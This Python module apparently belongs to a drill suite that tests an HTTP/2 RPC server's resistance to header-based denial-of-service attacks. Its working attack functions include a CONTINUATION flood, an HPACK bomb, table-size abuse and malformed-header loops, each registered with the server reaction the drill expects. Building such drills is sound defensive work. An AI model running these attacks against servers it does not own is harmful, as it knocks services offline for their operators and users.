"""Header blocks that are endless, slow, small on the wire and large in memory, or wrong."""

from __future__ import annotations

from itertools import count

from h2.settings import SettingCodes

from drills.attacks.attack import CALM, CUT, PROTOCOL, Attack, Attacker
from drills.wire import Wire
from rpc.kit.frames import request_headers

_HEADERS, _CONTINUATION = 0x1, 0x9
_END_STREAM, _END_HEADERS = 0x1, 0x4


def continuation_flood(attacker: Attacker) -> None:
    """A header block without end."""
    with attacker.connection() as wire:
        wire.open()
        wire.send(wire.make.raw(_HEADERS, 0, 1, b""))
        wire.flood(wire.make.raw(_CONTINUATION, 0, 1, b""))


def slow_header_block(attacker: Attacker) -> None:
    """A header block that goes on, a byte at a time, and never ends."""
    with attacker.connection() as wire:
        wire.open()
        block = wire.make.block(request_headers())
        wire.send(wire.make.raw(_HEADERS, 0, 1, block[:1]))
        for byte in block[1:40]:
            wire.wait(0.2)
            wire.send(wire.make.raw(_CONTINUATION, 0, 1, bytes([byte])))
        wire.wait()


def hpack_bomb(attacker: Attacker) -> None:
    """One large header in the table, and many references to it, a byte each."""
    with attacker.connection() as wire:
        wire.open()
        bomb = [("x-bomb", "v" * 3000)] * 4000
        wire.send(wire.make.headers(1, request_headers(extra=bomb)))
        wire.wait()


def long_header_list(attacker: Attacker) -> None:
    """Requests with more headers than may be sent, in their full length: each is refused alone."""
    with attacker.connection() as wire:
        wire.open()
        wanted = attacker.some(1000)
        long = wire.make.block(request_headers(extra=[(f"x-{number}", "v" * 100) for number in range(120)]))
        for number in range(wanted):
            wire.send(wire.make.raw(_HEADERS, _END_HEADERS | _END_STREAM, 2 * number + 1, long))
        wire.wait_for_answers(wanted)


def encoder_table(attacker: Attacker) -> None:
    """The host is told that it may remember 4 GiB of what it sends, and made to send what it has not sent before."""
    with attacker.connection() as wire:
        wire.open({SettingCodes.HEADER_TABLE_SIZE: 2**32 - 1})
        for number in range(attacker.some(4000)):
            headers = request_headers({":path": f"/{number:04}/{'x' * 1500}"})
            wire.send(wire.make.headers(2 * number + 1, headers, end_stream=True))
        wire.wait_for_answers(attacker.some(4000))


def decoder_table(attacker: Attacker) -> None:
    """The table that the host reads headers by is emptied and filled anew with each request."""
    empty, full = b"\x20", b"\x3f\xe1\x1f"  # changes of its size, to 0 and to 4096
    literals = b"".join(b"\x40\x03x-%c\x0a%010d" % (97 + slot, slot) for slot in range(20))
    with attacker.connection() as wire:
        wire.open()
        wanted = attacker.some(2000)
        block = empty + full + wire.make.block(request_headers({":path": "/no.Such/Method"})) + literals
        for number in range(wanted):
            wire.send(wire.make.raw(_HEADERS, _END_HEADERS | _END_STREAM, 2 * number + 1, block))
        wire.wait_for_answers(wanted)


def broken_hpack(attacker: Attacker) -> None:
    """A header block that cannot be decoded."""
    with attacker.connection() as wire:
        wire.open()
        wire.send(wire.make.raw(_HEADERS, _END_HEADERS, 1, b"\xff" * 20))
        wire.wait()


def malformed_headers(attacker: Attacker) -> None:
    """Headers that HTTP/2 does not allow: each ends its stream, and counts as a reset."""
    with attacker.connection() as wire:
        wire.open()
        for stream_id in count(1, 2):
            wire.send(wire.make.headers(stream_id, request_headers(extra=[("Upper", "case")])))


def requests_that_are_no_calls(attacker: Attacker) -> None:
    """Requests of an unknown method, as fast as they can be sent."""
    with attacker.connection() as wire:
        wire.open()
        wanted = attacker.some(4000)
        for number in range(wanted):
            wire.send(_unknown(wire, 2 * number + 1))
        wire.wait_for_answers(wanted)


def _unknown(wire: Wire, stream_id: int) -> bytes:
    return wire.make.headers(stream_id, request_headers({":path": "/no.Such/Method"}))


ATTACKS = [
    Attack("continuation-flood", "a header block without end (CVE-2024-27316)", continuation_flood, (CALM, PROTOCOL)),
    Attack("slow-header-block", "a header block, a byte at a time, without end", slow_header_block, CUT, slow=True),
    Attack("hpack-bomb", "4 kB of headers that are 12 MB when decoded (CVE-2016-6581)", hpack_bomb, (CALM,)),
    Attack("long-header-list", "more headers than may be sent", long_header_list, ("open",), "8"),
    Attack(
        "encoder-table", "HEADER_TABLE_SIZE of 4 GiB, and answers that would fill it", encoder_table, ("open",), "12"
    ),
    Attack(
        "decoder-table", "the table of headers, emptied and filled with each request", decoder_table, ("open",), "12"
    ),
    Attack("broken-hpack", "headers that cannot be decoded", broken_hpack, (PROTOCOL, "GOAWAY COMPRESSION_ERROR")),
    Attack("malformed-headers", "headers that HTTP/2 does not allow", malformed_headers, (CALM,)),
    Attack("unknown-method", "calls of a method that does not exist", requests_that_are_no_calls, ("open",), "12"),
]
